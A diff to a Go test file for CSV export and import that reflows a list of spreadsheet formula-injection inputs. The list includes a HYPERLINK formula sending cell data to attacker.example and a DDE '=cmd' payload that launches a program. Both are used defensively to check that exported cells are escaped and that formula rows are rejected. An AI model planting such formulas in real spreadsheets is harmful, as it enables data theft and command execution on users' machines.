@@ -15,8 +15,28 @@ import (
 
 // formulas are what spreadsheets run, and what looks like it.
 var formulas = []string{
-	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "'=1+1", "''=1+1", "'", "'x", "'-5", "-5x", "+5", "＝1+1", "\u00a0@A1",
-	`=HYPERLINK("https://attacker.example/?"&A1,"x")`, `=cmd|'/c calc'!A1`, "plain", "a=b", "x'",
+	"=1+1",
+	"+1+1",
+	"-1+1",
+	"@SUM(A1)",
+	"\t=1+1",
+	"\r=1+1",
+	" =1+1",
+	"\n=1+1",
+	"'=1+1",
+	"''=1+1",
+	"'",
+	"'x",
+	"'-5",
+	"-5x",
+	"+5",
+	"＝1+1",
+	"\u00a0@A1",
+	`=HYPERLINK("https://attacker.example/?"&A1,"x")`,
+	`=cmd|'/c calc'!A1`,
+	"plain",
+	"a=b",
+	"x'",
 }
 
 // TestFormulas exports ids that a spreadsheet would run, and brings them in again from what was written.
@@ -26,7 +46,11 @@ func TestFormulas(t *testing.T) {
 	for _, id := range formulas {
 		_, err := w.db.Pool.Exec(t.Context(), `INSERT INTO product (id) VALUES ($1)`, id)
 		w.must(err)
-		_, err = w.links.Create(t.Context(), []linkstore.Item{{Link: "product_channel", Left: id, Right: "c1"}}, linkstore.CreateOptions{})
+		_, err = w.links.Create(
+			t.Context(),
+			[]linkstore.Item{{Link: "product_channel", Left: id, Right: "c1"}},
+			linkstore.CreateOptions{},
+		)
 		w.must(err)
 	}
 	var out bytes.Buffer
@@ -37,7 +61,8 @@ func TestFormulas(t *testing.T) {
 	w.must(err)
 	for _, row := range rows[1:] {
 		for _, cell := range row {
-			if begins := strings.TrimLeft(cell, " \n\u00a0"); begins != "" && strings.ContainsAny(begins[:1], "=+-@\t\r") || strings.HasPrefix(begins, "＝") {
+			if begins := strings.TrimLeft(cell, " \n\u00a0"); begins != "" &&
+				strings.ContainsAny(begins[:1], "=+-@\t\r") || strings.HasPrefix(begins, "＝") {
 				t.Errorf("a spreadsheet runs %q", cell)
 			}
 		}
@@ -71,7 +96,10 @@ func TestFormulasThatAreRejected(t *testing.T) {
 	w := newWorld(t)
 	i := w.importer()
 	i.Rejects = filepath.Join(w.dir, "rejects.csv")
-	_, err := i.File(t.Context(), w.file("bad.csv", "link,left,right\nproduct_channel,=1+1,c1\nproduct_channel,'=2+2,c1\n=3+3,p1,c1\n"))
+	_, err := i.File(
+		t.Context(),
+		w.file("bad.csv", "link,left,right\nproduct_channel,=1+1,c1\nproduct_channel,'=2+2,c1\n=3+3,p1,c1\n"),
+	)
 	w.must(err)
 	text, err := os.ReadFile(i.Rejects)
 	w.must(err)
